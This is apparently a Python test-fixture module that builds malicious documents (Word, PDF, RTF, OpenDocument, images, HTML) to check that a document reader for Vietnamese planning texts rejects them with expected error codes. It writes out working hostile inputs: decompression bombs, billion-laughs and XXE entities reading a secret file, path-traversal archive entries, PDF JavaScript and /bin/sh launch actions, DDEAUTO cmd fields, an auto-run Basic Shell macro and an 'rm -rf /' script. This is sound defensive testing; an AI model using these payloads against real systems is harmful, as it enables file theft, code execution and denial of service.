"""hostile_files_made.py: documents that mean harm, made as bytes: no program is needed for them.  `url` is an address that must never be asked,
`secret` a file that must never be read."""
import io
import random
import struct
import zipfile
import zlib

from hostile import JPEG, MB, chunk, png, zeros

WORD = "word/document.xml"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
PLAN = """ỦY BAN NHÂN DÂN THÀNH PHỐ HÀ NỘI
Số: 97/KH-UBND
Hà Nội, ngày 04 tháng 3 năm 2025
KẾ HOẠCH
Triển khai xây dựng Thành phố sáng tạo năm 2025
II. NỘI DUNG
1. Tổ chức Lễ hội Thiết kế sáng tạo%s
- Đơn vị chủ trì: Sở Văn hóa và Thể thao%s.
- Đơn vị phối hợp: Sở Du lịch%s.
- Thời gian thực hiện: Quý IV năm 2025.
2. Khảo sát các không gian sáng tạo
- Đơn vị chủ trì: Sở Du lịch.
- Thời gian thực hiện: trước ngày 30/11/2025.
"""
TASK = "%d. Tổ chức lễ hội%s\n- Đơn vị chủ trì: Sở Du lịch.\n- Thời gian thực hiện: trước ngày 30/11/2025.\n"
CODES = {  # the reader's codes as the first words of their English sentences (imports_words.c)
    "empty": "The file is empty", "not-text": "This is no document", "encrypted": "The document is protected", "pdf-missing": "PDF cannot be read",
    "doc-missing": "The old Word format (.doc) cannot", "ocr-missing": "Scans and pictures cannot", "not-picture": "This picture cannot",
    "no-text": "No text was found", "too-many-pages": "The document has more than 500", "broken": "The document is damaged",
    "too-large": "The document is larger", "bomb": "The document unpacks", "no-tasks": "No task was found", "too-slow": "Reading took too long",
    "crashed": "The reader failed", "old-font": "The text is written in an old", "mixed": "Several files",
}


def zipped(parts, level=9):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as z:
        for name, body in parts.items():
            z.writestr(name, body)
    return out.getvalue()


def paragraphs(text):
    return "".join("<w:p><w:r><w:t xml:space='preserve'>%s</w:t></w:r></w:p>" % line for line in text.splitlines())


def word(body=None, head="", more=None, level=9):
    """A .docx; `head` stands before the document's element."""
    body = paragraphs(PLAN % ("", "", "")) if body is None else body
    xml = '<?xml version="1.0" encoding="UTF-8"?>%s<w:document %s><w:body>%s</w:body></w:document>' % (head, W, body)
    return zipped({WORD: xml, **(more or {})}, level)


def rels(kind, target):
    return ('<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="r1" Type="%s%s" Target="%s" TargetMode="External"/></Relationships>' % (RELS, kind, target))


def laughs():
    return "<!DOCTYPE x [<!ENTITY e0 'ha'>" + "".join("<!ENTITY e%d '%s'>" % (i, "&e%d;" % (i - 1) * 20) for i in range(1, 12)) + "]>"


def pdf(objects, trailer="", root=1, table=True, at=None):
    """objects: number to its body, or to (dictionary, bytes of a stream)."""
    out, places = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", {}
    for n, o in objects.items():
        places[n] = len(out)
        if isinstance(o, tuple):
            o = b"<<%s/Length %d>>\nstream\n" % (o[0].encode(), len(o[1])) + o[1] + b"\nendstream"
        out += b"%d 0 obj\n" % n + (o.encode("latin-1") if isinstance(o, str) else o) + b"\nendobj\n"
    start = len(out)
    if table:
        out += b"xref\n0 1\n0000000000 65535 f \n" + b"".join(b"%d 1\n%010d 00000 n \n" % (n, p) for n, p in places.items())
    return out + b"trailer\n<</Size %d/Root %d 0 R%s>>\nstartxref\n%d\n%%%%EOF\n" % (max(objects) + 1, root, trailer.encode("latin-1"),
                                                                                       start if at is None else at)


def page_pdf(content=b"BT /F 12 Tf 50 700 Td (Thong bao nghi le) Tj ET", page="", root="", resources="", more=None, filters="", **kw):
    return pdf({1: "<</Type/Catalog/Pages 2 0 R%s>>" % root, 2: "<</Type/Pages/Kids[3 0 R]/Count 1>>",
                3: "<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>%s>>%s>>" % (resources, page),
                4: (filters, content), 5: "<</Type/Font/Subtype/Type1/BaseFont/Times-Roman>>", **(more or {})}, **kw)


def plan_pdf(text, root=""):
    """Lines of text, each letter by a number that a table of the font turns into Unicode."""
    letters = sorted(set(text) - {"\n"})
    code = {c: i + 1 for i, c in enumerate(letters)}
    table = "/CMapName/X def begincmap 1 begincodespacerange <00><FF> endcodespacerange %d beginbfchar %s endbfchar endcmap" % (
        len(code), " ".join("<%02X><%04X>" % (i, ord(c)) for c, i in code.items()))
    content = "".join("BT /F 11 Tf 50 %d Td <%s> Tj ET\n" % (780 - 18 * i, "".join("%02X" % code[c] for c in line)) for i,
        line in enumerate(text.splitlines()))
    font = "<</Type/Font/Subtype/TrueType/BaseFont/Times/FirstChar 1/LastChar 255/Widths[%s]/ToUnicode 6 0 R>>" % ("500 " * 255)
    return page_pdf(content.encode(), root=root, more={5: font, 6: ("", table.encode())})


def many_pages(n):
    kids = " ".join("%d 0 R" % (10 + i) for i in range(n))
    return pdf({1: "<</Type/Catalog/Pages 2 0 R>>", 2: "<</Type/Pages/Kids[%s]/Count %d>>" % (kids, n),
                **{10 + i: "<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>" for i in range(n)}})


def forms(body, n):
    """Forms that draw the next one each several times."""
    return {10 + i: ("/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X %d 0 R>>>>" % (10 + (i + 1) % n), body) for i in range(n)}


def active(url):
    """Everything that a PDF may start by itself."""
    js = "<</S/JavaScript/JS(app.launchURL\\('%s'\\);this.submitForm\\('%s'\\))>>" % (url, url)
    launch = "<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)>>>>"
    link = "/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 595 842]/A<</S/URI/URI(%s)>>>>%s]" % (
        url, "<</Type/Annot/Subtype/Widget/FT/Tx/T(a)/Rect[0 0 99 99]/AA<</E %s/PO %s>>>>" % (js, launch))
    root = ("/OpenAction %s/AA<</WC %s>>/Names<</JavaScript<</Names[(a) %s]>>/EmbeddedFiles<</Names[(x.exe) 8 0 R]>>>>"
            "/AcroForm<</Fields[]/XFA 9 0 R>>/URI<</Base(%s)>>" % (js, launch, js, url))
    xfa = ('<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><!DOCTYPE x SYSTEM "%s"><template>'
           '<subform><event activity="ready:ready"><submit target="%s"/></event></subform></template></xdp:xdp>')
    return page_pdf(root=root, page=link, more={6: ("/Type/EmbeddedFile", b"MZ\x90\0"), 8: "<</Type/Filespec/F(../../x.exe)/EF<</F 6 0 R>>>>",
                                                9: ("", (xfa % (url, url)).encode()), 11: "<</Type/Filespec/FS/URL/F(%s)>>" % url})


def outside_streams(url, secret):
    """A page whose content, font and picture are said to lie elsewhere."""
    more = {4: ("/F(%s)" % secret, b""), 5: "<</Type/Font/Subtype/TrueType/BaseFont/X/FontDescriptor 6 0 R>>",
            6: "<</Type/FontDescriptor/FontName/X/FontFile2 7 0 R>>", 7: ("/F<</FS/URL/F(%s)>>" % url, b"")}
    return page_pdf(more=more)


def tiff(entries, following, tail=b""):
    body = struct.pack("<H", len(entries)) + b"".join(struct.pack("<HHII", *e) for e in entries) + struct.pack("<I", following)
    return b"II*\0" + struct.pack("<I", 8) + body + tail


def tiff_page(wide, high, following=0):
    return tiff([(256, 4, 1, wide), (257, 4, 1, high), (258, 3, 1, 8), (259, 3, 1, 1), (262, 3, 1, 1), (273, 4, 1, 8), (277, 3, 1, 1), (278, 4, 1, high),
                 (279, 4, 1, 1 << 30)], following)


def rtf(url, secret):
    field = r"{\field{\*\fldinst %s}{\fldrslt x}}"
    text = "".join(field % f for f in (r'INCLUDETEXT "%s"' % secret, r'INCLUDETEXT "%s"' % url, r'INCLUDEPICTURE "%s" \\d' % url,
                                       r'DDEAUTO cmd "/c calc"', r'LINK Excel.Sheet.8 "%s" a \\a' % url, r'IMPORT "%s"' % secret))
    return (r"{\rtf1\ansi{\*\template %s}{\object\objautlink\objupdate{\*\objclass Word.Document.8}{\*\objdata 01050000}}%s Thong bao nghi le\par}"
            % (url, text)).encode()


def flat_office(url, secret):
    """An OpenDocument as one XML file with macros, sections from elsewhere and pictures from elsewhere."""
    ns = " ".join('xmlns:%s="urn:oasis:names:tc:opendocument:xmlns:%s:1.0"' % (p, n) for p, n in (
        ("office", "office"), ("text", "text"), ("draw", "drawing"), ("script", "script")))
    return ('<?xml version="1.0" encoding="UTF-8"?><office:document %s xmlns:xlink="http://www.w3.org/1999/xlink" '
        'xmlns:ooo="http://openoffice.org/2004/office" '
            'office:version="1.2" office:mimetype="application/vnd.oasis.opendocument.text"><office:scripts><office:script script:language="ooo:Basic">'
            '<ooo:libraries><ooo:library-embedded ooo:name="Standard"><ooo:module ooo:name="M"><ooo:source-code>Sub Main\nShell("/usr/bin/touch '
            '/tmp/khue-harm")\n'
            'End Sub</ooo:source-code></ooo:module></ooo:library-embedded></ooo:libraries></office:script><office:event-listeners><script:event-listener '
            'script:language="ooo:script" script:event-name="dom:load" '
            'xlink:href="vnd.sun.star.script:Standard.M.Main?language=Basic&amp;location=document"/>'
            '</office:event-listeners></office:scripts><office:body><office:text><text:section text:name="a"><text:section-source '
            'xlink:href="%s"/></text:section>'
            '<text:section text:name="b"><text:section-source xlink:href="file://%s"/></text:section><text:p>Thông báo nghỉ lễ<draw:frame><draw:image '
            'xlink:href="%s"/>'
            '</draw:frame></text:p></office:text></office:body></office:document>' % (ns, url, secret, url)).encode()


def compound(words):
    """A compound file with a name of one of its streams ([MS-CFB])."""
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + words


def page(inside):
    return ('<html><head><meta charset="utf-8"></head><body>%s</body></html>' % inside).encode()


def word_files(url, secret):
    """name, bytes, codes of imports_words.c that it may end with; None: it may be read."""
    good = word()
    plan = paragraphs(PLAN % ("", "", ""))
    deep = "<w:p>" * 200_000
    nested = word(more={"word/embeddings/a.docx": zipped({"a": zipped({"b": bytes(30 * MB)}), "z": bytes(30 * MB)})})
    template = {"word/_rels/settings.xml.rels": rels("attachedTemplate", url), "word/_rels/document.xml.rels": rels("aFChunk", url),
                "word/settings.xml": "<w:settings %s><w:attachedTemplate r:id='r1'/></w:settings>" % W, "word/vbaProject.bin": b"Sub AutoOpen()"}
    fields = "".join("<w:p><w:fldSimple w:instr='%s'><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>" % f for f in (
        'INCLUDETEXT "%s"' % secret, 'DDEAUTO c:\\\\cmd.exe "/k calc"', 'INCLUDEPICTURE "%s"' % url))
    return [
        ("khoa.docx", compound("EncryptedPackage".encode("utf-16-le") + bytes(3000)), {"encrypted"}),
        ("khoa.doc", compound(b"\xec\xa5\xc1\0" + bytes(6) + b"\0\1" + bytes(3000)), {"encrypted"}),
        ("nua.docx", good[:len(good) // 2], {"broken"}), ("cut.docx", good[:-30], {"broken"}), ("dau.docx", good[:30], {"broken"}),
        ("bom.docx", zipped({WORD: bytes(200 * MB)}, 1), {"bomb", "too-large"}), ("long.docx", nested, None),
        ("nhieu.docx", zipped({**{"word/x%d.xml" % i: b"" for i in range(20_000)}, WORD: b""}, 1), {"bomb", "broken", "too-large"}),
        ("cuoi.docx", word("<w:p><w:r><w:t>&e11;</w:t></w:r></w:p>", laughs()), {"bomb", "broken"}),
        ("xxe.docx", word("<w:p><w:r><w:t>&e;</w:t></w:r></w:p>" + plan, "<!DOCTYPE x [<!ENTITY e SYSTEM 'file://%s'>]>" % secret), {"bomb", "broken"}),
        ("dtd.docx", word(plan, "<!DOCTYPE x SYSTEM '%s'>" % url), {"bomb", "broken"}), ("sau.docx", word(deep), {"broken", "bomb", "too-large"}),
        ("mau.docx", word(fields + plan, more=template), None), ("hai.docx", good + good, None),
        ("duong.docx", word(more={"../../../khue.db": b"x", "/etc/passwd": b"x"}), None),
    ]


def renamed_files():
    return [
        ("anh.pdf", png(9, 9), {"not-picture", "no-text", "ocr-missing", "too-large"}),
        ("pdf.docx", page_pdf(), {"no-tasks", "pdf-missing"}), ("chay.docx", b"MZ\x90\0" + bytes(4000), {"not-text"}),
        ("lenh.pdf", b"#!/bin/sh\nrm -rf /\n", {"no-tasks"}), ("elf.doc", b"\x7fELF\2\1\1" + bytes(900), {"not-text"}), ("rong.docx", b"", {"empty"}),
        ("trang.txt", b" \n\t " * 500, {"empty"}), ("ngau.pdf", random.Random(1).randbytes(50_000), {"not-text", "no-tasks", "broken"}),
        ("nul.txt", (PLAN % ("", "", "")).encode().replace(b" ", b"\0"), {"not-text", "no-tasks"}),
        ("nul2.txt", (PLAN % ("", "", "")).encode() + bytes(9) + b"x", {"not-text", "no-tasks", "broken"}),
        ("phong.txt", (PLAN % ("", "", "")).encode().replace("ủ".encode(), b"\xfb\xff"), None),
        ("cu.txt", ("Sè: 97/KH-UBND\nKÕ ho¹ch triÓn khai x©y dùng Thµnh phè s¸ng t¹o n¨m 2025, ®Ò nghÞ c¸c ®¬n vÞ thùc hiÖn nghiªm tóc\n" * 30).encode(),
            {"old-font", "no-tasks"}),
        ("dong.txt", b"\n" * 3 * MB + b"x", {"too-large"}), ("mot.txt", b"a" * 7 * MB, {"no-tasks", "too-large", "too-slow"}),
        ("lon.txt", b"a b\n" * (9 * MB // 4), {"too-large"}),
        ("so.txt", ("1. " * 300_000).encode(), {"no-tasks", "too-large", "too-slow"}),
        ("bang.md", ("|" + "a|" * 20_000 + "\n").encode() * 30, {"no-tasks", "too-large", "too-slow"}),
        ("dau.txt", ("(" * 500_000).encode(), {"no-tasks", "too-slow"}),
        ("dai.txt", (PLAN % (" rất dài" * 150_000, "", "")).encode(), {"too-large"}),
        ("nghin.txt", (PLAN % ("", "", "") + "".join(TASK % (n, " rất dài" * 900) for n in range(3, 600))).encode(), {"too-large"}),
        ("them.txt", (PLAN % ("", "", "") + "IV. PHỤ LỤC\n" + "chữ thêm vào\n" * 50_000).encode(), None),
        ("chu.txt", ("Sở Văn hóa và Thể thao, " * 60_000).encode(), {"no-tasks", "too-large", "too-slow"}),
    ]


def pdf_files(url, secret):
    no_text = {"no-text", "broken", "no-tasks", "ocr-missing", "too-large", "too-slow"}
    one = page_pdf()
    lock = "/Encrypt<</Filter/Standard/V 1/R 2/O<%s>/U<%s>/P -4>>/ID[<00><00>]" % ("11" * 32, "22" * 32)
    loop = pdf({1: "<</Type/Catalog/Pages 2 0 R>>", 2: "<</Type/Pages/Kids[2 0 R 3 0 R]/Count 3/Parent 3 0 R>>",
        3: "<</Type/Pages/Kids[2 0 R]/Count 2/Parent 2 0 R>>"})
    streams = pdf({1: "<</Type/Catalog/Pages 2 0 R>>", 2: ("/Type/ObjStm/N 2/First 8/Extends 2 0 R", b"2 0 3 9 <</A 2 0 R>><</B 3 0 R>>"),
                   4: ("/Type/XRef/Size 9/W[1 9 9]/Index[0 2147483647]/Prev 1", b"\2\0\2")})
    out = [
        ("khoa.pdf", page_pdf(trailer=lock), {"encrypted", "pdf-missing"}), ("dau.pdf", b"%PDF-1.7\n", no_text), ("cut.pdf", one[:len(one) // 2], no_text),
        ("duoi.pdf", one[:-40], no_text | {"no-tasks"}), ("xref.pdf", page_pdf(at=3), no_text), ("xref2.pdf", page_pdf(at=1 << 62), no_text),
        ("vong.pdf", loop, no_text), ("luong.pdf", streams, no_text), ("truoc.pdf", page_pdf(trailer="/Prev 9"), no_text),
        ("bom.pdf", page_pdf(zeros(256 * MB), filters="/Filter/FlateDecode"), no_text),
        ("bom2.pdf", page_pdf(zlib.compress(zeros(64 * MB)), filters="/Filter[/FlateDecode/FlateDecode]"), no_text),
        ("2000.pdf", many_pages(2000), {"too-many-pages", "pdf-missing"}),
        ("dem.pdf", pdf({1: "<</Type/Catalog/Pages 2 0 R>>", 2: "<</Type/Pages/Kids[3 0 R]/Count 2147483647>>", 3: "<</Type/Page/Parent 2 0 R>>"}),
         no_text | {"too-many-pages"}),
        ("200inch.pdf", page_pdf(page="/MediaBox[0 0 14400 14400]/UserUnit 75"), no_text), ("lon.pdf", page_pdf(page="/MediaBox[-1e30 -1e30 1e30 1e30]"),
            no_text),
        ("khong.pdf", page_pdf(page="/MediaBox[0 0 0 0]"), no_text), ("nan.pdf", page_pdf(page="/MediaBox[9 9 (a) null]/Rotate 37"), no_text),
        ("hinh.pdf", page_pdf(b"/X Do " * 9, resources="/XObject<</X 10 0 R>>", more=forms(b"/X Do " * 9, 1)), no_text),
        ("anh.pdf", page_pdf(b"595 0 0 842 0 0 cm /X Do", resources="/XObject<</X 6 0 R>>", more={6: (
            "/Type/XObject/Subtype/Image/Width 65535/Height 65535/ColorSpace/DeviceRGB/BitsPerComponent 8/Filter/FlateDecode", zeros(MB))}), no_text),
        ("jbig.pdf", page_pdf(b"595 0 0 842 0 0 cm /X Do", resources="/XObject<</X 6 0 R>>", more={6: (
            "/Type/XObject/Subtype/Image/Width 9000/Height 9000/BitsPerComponent 1/ColorSpace/DeviceGray/Filter/JBIG2Decode",
            random.Random(2).randbytes(4000))}), no_text),
        ("chu.pdf", page_pdf(more={5: "<</Type/Font/Subtype/Type3/FontBBox[0 0 9 9]/FontMatrix[1 0 0 1 0 0]/FirstChar 0/LastChar "
            "255/Encoding<</Differences[0/a]>>"
                                      "/CharProcs<</a 6 0 R>>/Resources<</Font<</F 5 0 R>>>>>>", 6: ("", b"BT /F 9 Tf (aaaa) Tj ET")}), no_text),
        ("ttf.pdf", page_pdf(more={5: "<</Type/Font/Subtype/TrueType/BaseFont/X/FontDescriptor 6 0 R>>",
            6: "<</Type/FontDescriptor/FontName/X/FontFile2 7 0 R>>",
                                   7: ("", b"\0\1\0\0\xff\xff" + random.Random(3).randbytes(3000))}), no_text),
        ("lenh.pdf", active(url), no_text),
        ("lenh2.pdf", plan_pdf(PLAN % ("", "", ""), "/OpenAction<</S/JavaScript/JS(app.launchURL\\('%s'\\))>>" % url), None), ("ngoai.pdf",
            outside_streams(url, secret), no_text),
    ]
    return [(n, b, None if c is None else c | {"pdf-missing", "crashed"}) for n, b, c in out]


def picture_files():
    codes = {"too-large", "not-picture", "no-text", "no-tasks", "ocr-missing", "too-slow", "too-many-pages"}
    large = JPEG[:2] + b"\xff\xc0\0\x11\x08" + struct.pack(">HH", 50000, 50000) + b"\x03\x01\x22\0\x02\x11\x01\x03\x11\x01" + JPEG[2:]
    return [
        ("bom.png", png(30000, 30000, rows=b""), {"too-large", "ocr-missing"}), ("bom2.png", png(6000, 6000, rows=b"") + b"x", codes),
        ("dai.png", png(1, 100_000), codes), ("ngang.png", png(100_000, 1), codes), ("that.png", png(2000, 2000, chunk(b"zTXt",
            b"a\0\0" + zeros(64 * MB))), codes),
        ("bom.jpg", large, {"too-large", "not-picture", "ocr-missing"}), ("cut.jpg", JPEG[:150], codes), ("0.png", png(0, 0, rows=b""), codes),
        ("vong.tif", tiff([(256, 4, 1, 100)], 8), codes), ("vong2.tif", tiff_page(500, 500, 8), codes), ("lon.tif", tiff_page(1 << 31, 1 << 31), codes),
        ("nhieu.tif", b"II*\0" + struct.pack("<I", 8) + b"".join(b"\0\0" + struct.pack("<I", 14 + 6 * i) for i in range(5000)), codes),
        ("x.webp", b"RIFF\xff\xff\xff\x7fWEBPVP8 \xff\xff\xff\x7f" + random.Random(4).randbytes(500), codes),
        ("x.webp", b"RIFF\x1a\0\0\0WEBPVP8X\x0a\0\0\0\0\0\0\0\xff\xff\xff\xff\xff\xff", codes),
    ]


def web_files(url, secret):
    text = "".join("<p>%s</p>" % line for line in (PLAN % ("", "", "")).splitlines())
    from_elsewhere = ('<img src="%s"><script src="%s"></script><link rel=stylesheet href="%s"><iframe src="%s"></iframe><iframe '
        'src="file://%s"></iframe><object data="%s">'
                      '<embed src="%s"><base href="%s"><meta http-equiv=refresh content="0;url=%s"><script>alert(1)</script>' % ((url,) * 4 + (secret,
                      ) + (url,) * 4))
    some = {"no-tasks", "broken", "too-large", "bomb", "too-slow", "empty"}
    return [
        ("ngoai.htm", page(from_elsewhere + text), None), ("sau.htm", page("<div>" * 300_000), some), ("sau2.htm", page("<table><tr><td>" * 60_000), some),
        ("thuoc.htm", page("<p %s>x</p>" % " ".join("a%d=1" % i for i in range(1_000_000))), some), ("mo.htm", page("<!-- " * 300_000), some),
        ("gop.htm", page("<table><tr>" + "<td colspan=99999 rowspan=99999>x</td>" * 2000 + "</tr></table>"), some), ("kyhieu.htm",
            page("&#x110000;&#0;&#xd800;&lt" * 50_000), some),
        ("mau.mht", b"MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n" + b"--b\r\nContent-Type: multipart/related; "
            b"boundary=b\r\n\r\n" * 5000, some | {"not-text"}),
    ]


def office_files(url, secret):
    some = {"no-tasks", "broken", "doc-missing", "crashed", "too-slow", "no-text", "old-font", "not-text"}
    return [("mau.rtf", rtf(url, secret), some), ("lenh.fodt", flat_office(url, secret), some), ("cut.rtf", b"{\\rtf1" + b"{" * 100_000, some),
            ("hong.doc", compound(random.Random(5).randbytes(20_000)), some)]


def slow_files():
    """What takes as long as it is let."""
    return [("hinh2.pdf", page_pdf(b"/X Do", resources="/XObject<</X 10 0 R>>", more=forms(b"/X Do " * 9, 40)), {"too-slow", "pdf-missing"})]


def all_files(url, secret):
    return word_files(url, secret) + renamed_files() + pdf_files(url, secret) + picture_files() + web_files(url, secret) + office_files(url, secret)
